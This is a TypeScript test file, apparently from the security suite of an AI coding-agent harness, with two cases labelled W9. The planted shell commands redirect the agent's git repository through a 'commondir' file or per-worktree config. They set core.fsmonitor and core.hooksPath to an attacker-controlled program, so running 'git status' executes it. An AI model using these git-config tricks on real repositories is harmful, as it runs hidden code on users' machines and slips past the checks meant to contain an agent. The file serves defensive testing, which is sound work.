/** The agent's repository is made to lead to another: by `commondir`, and by a config for each worktree. */
import { expect } from 'vitest'
import { attacks } from './attack.fixture.ts'

const attack = attacks()

attack(
  '[W9] by commondir',
  {
    plays: ({ plant, dir, evil }) => ({
      develop: [
        [
          plant(
            'make',
            `git init -q --bare ${dir}/evil.git && git -C ${dir}/evil.git config core.fsmonitor ${evil}`,
          ),
          plant(
            'lead',
            `echo ${dir}/evil.git > "$(git rev-parse --git-dir)/commondir" && echo more >> a.txt`,
          ),
          plant('fire', 'git status; git ls-files -m; true'),
        ],
      ],
    }),
  },
  async ({ run, git, fired }) => {
    expect(await run.end()).toBe('done')
    expect(fired()).toBeGreaterThan(0)
    expect(git('show', 'HEAD:a.txt')).toBe('a\nmore')
  },
)

attack(
  '[W9] by a config for the worktree',
  {
    plays: ({ plant, evil }) => ({
      develop: [
        [
          plant(
            'plant',
            `git config extensions.worktreeConfig true && git config --worktree core.fsmonitor ${evil} &&
             git config --worktree core.hooksPath ${evil} && echo more >> a.txt`,
          ),
          plant('fire', 'git status; true'),
        ],
      ],
    }),
  },
  async ({ run, git, fired }) => {
    expect(await run.end()).toBe('done')
    expect(fired()).toBeGreaterThan(0)
    expect(git('show', 'HEAD:a.txt')).toBe('a\nmore')
  },
)
